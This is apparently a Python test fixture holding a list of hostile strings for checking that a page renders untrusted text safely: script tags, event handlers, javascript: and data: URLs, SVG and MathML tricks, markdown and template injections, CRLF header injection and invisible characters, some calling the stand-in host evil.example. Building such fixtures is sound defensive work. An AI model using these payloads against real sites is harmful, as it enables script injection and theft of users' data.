"""Texts that do something in a page that shows them carelessly: each would set ``window.caught``, open a dialog, ask another host
for something, or add a node. Kinds: script, event handlers, addresses, SVG and MathML, markdown, JSON in a page, templates, attributes,
invisible characters, and what breaks parsers.
"""

from __future__ import annotations

__all__ = ["HOSTILE"]

EVIL = "http://evil.example"

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>caught=1</sCrIpT>",
    f"<script src={EVIL}/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<script type=module>alert(1)</script>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=caught=1>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>",
    "<form><button formaction=javascript:alert(1)>x",
    "<select autofocus onfocus=alert(1)>",
    "<audio src=x onerror=alert(1)>",
]
ADDRESSES = [
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.caught=1</script>'>",
    f"<object data={EVIL}/x.swf>",
    f"<embed src={EVIL}/x>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<img src={EVIL}/pixel.png>",
    f"<form action={EVIL}><input type=submit autofocus>",
    f"<p style='background:url({EVIL}/x)'>x",
]
PICTURES = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    f"<svg><use href='{EVIL}/x.svg#a'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<svg><foreignObject><iframe src=javascript:alert(1)>",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    f"![x]({EVIL}/pixel.png)",
    f"[x]({EVIL} \"onmouseover=alert(1)\")",
    f"<{EVIL}>",
    f"[x]: {EVIL}\n[x]",
    "![x](x\"onerror=\"alert(1))",
    "`<img src=x onerror=alert(1)>`",
    "```\"onload=alert(1)\n<script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "# <img src=x onerror=alert(1)>",
    "**<script>alert(1)</script>**",
    "- <svg onload=alert(1)>",
    "> <iframe src=javascript:alert(1)>",
    "1. [a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
]
EMBEDDED = [
    "</script><script>alert(1)</script>",
    "\"};alert(1);//",
    "'-alert(1)-'",
    "\\\";alert(1)//",
    "\u2028alert(1)\u2029",
    "${alert(1)}",
    "`-alert(1)-`",
    "{{7*7}}{{ ''.__class__.__mro__ }}",
    "{% for x in (1,) %}alert{% endfor %}",
    "<%= alert(1) %>",
    "#{alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<template><script>alert(1)</script></template>",
    "__proto__",
    "constructor",
]
UNSEEN = [
    "\u202egnp.exe\u202c",
    "ab\u200bcd\u200d\ufeff",
    "\u2066\u202etxt\u2069",
    "<scr\u00adipt>alert(1)</scr\u00adipt>",
    "\x1b[31mred\x1b[0m\x07",
    "a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "\U000e0041\U000e0042",
    "\x01a\x08\x08\x7f",
    "<\u0001script>alert(1)</script>",
    "Z" + "\u0301" * 300,
    "<a" + " a" * 500 + ">",
    "*" * 3000 + "_" * 3000 + "`" * 2001,
]
HOSTILE = [*SCRIPTS, *HANDLERS, *ADDRESSES, *PICTURES, *MARKDOWN, *EMBEDDED, *UNSEEN]
